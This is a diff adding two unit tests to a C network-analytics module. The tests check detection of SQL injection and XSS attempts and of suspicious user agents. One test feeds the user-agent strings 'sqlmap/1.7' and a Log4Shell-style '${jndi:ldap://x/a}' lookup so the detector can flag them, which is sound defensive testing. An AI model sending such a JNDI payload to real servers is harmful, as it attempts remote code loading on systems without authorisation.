@@ -11,6 +11,7 @@
 
 #include "analytics/analytics.h"
 #include "common/hash.h"
+#include "parse/classify.h"
 
 #define SECOND 1000000000ULL
 #define T0 (1700000000ULL * SECOND)
@@ -326,6 +327,73 @@ static void test_endpoint_spray(void **state) {
     analytics_destroy(a);
 }
 
+static int64_t evidence_of(const analytics_finding *f, const char *key) {
+    for (int i = 0; i < ANALYTICS_MAX_EVIDENCE && f->evidence[i].key; i++)
+        if (!strcmp(f->evidence[i].key, key))
+            return f->evidence[i].value;
+    return -1;
+}
+
+static void test_injection_attempt(void **state) {
+    (void)state;
+    analytics *a = make();
+    uint64_t ts = T0;
+    /* ordinary traffic, including a user agent nDPI did not flag: nothing */
+    for (int i = 0; i < 50; i++) {
+        analytics_observation o =
+            req(ts += SECOND, 0, ip4(10, 0, 2, 1), "GET /items", 0, "/items", 200);
+        o.user_agent = sv("curl/8.0");
+        analytics_observe(a, &o);
+    }
+    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 0);
+    /* an anonymous client sends SQL injection (404 and 200) and XSS */
+    uint32_t kinds[] = {CLASSIFY_RISK_SQL_INJECTION, CLASSIFY_RISK_SQL_INJECTION,
+                        CLASSIFY_RISK_XSS};
+    uint16_t statuses[] = {404, 200, 400};
+    for (int i = 0; i < 3; i++) {
+        analytics_observation o =
+            req(ts += SECOND, 0, ip4(10, 0, 2, 9), "GET /items", 0, "/items", statuses[i]);
+        o.risks = kinds[i];
+        analytics_observe(a, &o);
+    }
+    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 1);
+    const analytics_finding *f = first_of(a, ANALYTICS_INJECTION_ATTEMPT);
+    assert_int_equal(f->count, 3);
+    assert_int_equal(evidence_of(f, "sql_injection"), 2);
+    assert_int_equal(evidence_of(f, "xss"), 1);
+    assert_int_equal(evidence_of(f, "answered_2xx"), 1);
+    assert_string_equal(f->severity, "high");
+    assert_int_equal(f->name_count, 2);
+    assert_int_equal(f->client_ip.bytes[3], 9);
+    /* a user agent risk alone is not an injection */
+    assert_int_equal(count_type(a, ANALYTICS_SUSPICIOUS_USER_AGENT), 0);
+    analytics_destroy(a);
+}
+
+static void test_suspicious_user_agent(void **state) {
+    (void)state;
+    analytics *a = make();
+    uint64_t ts = T0;
+    for (int i = 0; i < 4; i++) {
+        analytics_observation o =
+            req(ts += SECOND, 5, ip4(10, 0, 3, 1), "POST /login", 0, "/login", 401);
+        o.risks =
+            CLASSIFY_RISK_SUSPICIOUS_USER_AGENT | (i == 0 ? CLASSIFY_RISK_POSSIBLE_EXPLOIT : 0);
+        o.user_agent = sv(i < 2 ? "sqlmap/1.7" : "${jndi:ldap://x/a}");
+        analytics_observe(a, &o);
+    }
+    assert_int_equal(count_type(a, ANALYTICS_SUSPICIOUS_USER_AGENT), 1);
+    assert_int_equal(count_type(a, ANALYTICS_INJECTION_ATTEMPT), 0);
+    const analytics_finding *f = first_of(a, ANALYTICS_SUSPICIOUS_USER_AGENT);
+    assert_int_equal(f->count, 4);
+    assert_string_equal(f->identity_id, "5");
+    assert_int_equal(f->name_count, 2);
+    assert_string_equal(f->names[0], "sqlmap/1.7");
+    assert_int_equal(evidence_of(f, "possible_exploit"), 1);
+    assert_string_equal(f->severity, "low");
+    analytics_destroy(a);
+}
+
 int main(void) {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_enumeration),
@@ -336,6 +404,8 @@ int main(void) {
         cmocka_unit_test(test_episodes),
         cmocka_unit_test(test_spike_after_learning),
         cmocka_unit_test(test_endpoint_spray),
+        cmocka_unit_test(test_injection_attempt),
+        cmocka_unit_test(test_suspicious_user_agent),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
